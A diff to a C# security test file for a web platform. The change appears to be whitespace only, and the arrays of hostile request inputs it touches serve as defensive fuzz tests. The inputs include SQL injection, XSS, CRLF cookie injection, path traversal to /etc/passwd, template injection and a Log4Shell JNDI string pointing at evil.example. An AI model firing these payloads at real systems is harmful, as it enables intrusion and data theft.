@@ -19,7 +19,7 @@ public sealed class HostileRequestsTests(PlatformFixture platform) : IClassFixtu
     private static readonly string[] InAddresses =
     [
         Uri.EscapeDataString($"' or '1'='1'; select pg_sleep(9); -- {Marked}"),
-            Uri.EscapeDataString($"\"'><img src=x onerror=alert(1)>{Marked}"),
+        Uri.EscapeDataString($"\"'><img src=x onerror=alert(1)>{Marked}"),
         "%00", "%ff%fe%ed%a0%80", "x%0d%0aSet-Cookie:%20zt-planted=1", "..%2f..%2f..%2fetc%2fpasswd", "..%5c..%5cweb.config",
         Uri.EscapeDataString($"{{{{7*7}}}}${{7*7}}<%=7*7%>{Marked}"), "-9223372036854775809", "1e309", "9999-99-99",
         "%E2%80%AE%F0%9F%92%A9", "00000000-0000-0000-0000-000000000000", $"https%3A%2F%2F{Elsewhere}%2F", $"%2F%2F{Elsewhere}",
@@ -32,9 +32,9 @@ public sealed class HostileRequestsTests(PlatformFixture platform) : IClassFixtu
     private static readonly string[] Bodies =
     [
         "", "{", "null", "[]", "\"x\"", "{\"context\":", "{\"a\":" + new string('[', 5000), "{\"fields\":null}",
-            "{\"context\":{\"a\":1e999}}",
+        "{\"context\":{\"a\":1e999}}",
         "{\"__proto__\":{\"x\":1},\"name\":{\"$gt\":\"\"}}", "{\"name\":\"\\u0000\\ud800\"}",
-            "{\"name\":\"' or 1=1; --<script>alert(1)</script>\"}",
+        "{\"name\":\"' or 1=1; --<script>alert(1)</script>\"}",
         "{\"name\":" + "9".PadRight(4000, '9') + "}", "{\"name\":true,\"name\":false,\"version\":\"x\"}",
     ];
 
@@ -84,7 +84,7 @@ public sealed class HostileRequestsTests(PlatformFixture platform) : IClassFixtu
         [
             $"\"'><img src=x>{Marked}", "' or 1=1; --", "bytes=0-18446744073709551615,0-0", "Bearer x", "Bearer zt_x_y", "Basic Og==",
             "${jndi:ldap://evil.example/a}", new('a', 6000), $"https://{Elsewhere}/",
-                "00-00000000000000000000000000000000-0000000000000000-01",
+            "00-00000000000000000000000000000000-0000000000000000-01",
             "\u00ff\u00fe", "*/*;q=x", ",,,;;;=",
         ];
         string[] pages = ["/", "/sign-in", "/services", "/apply/old-age-allowance", "/api/openapi.json", "/workbench/inbox", "/dist/x.js",
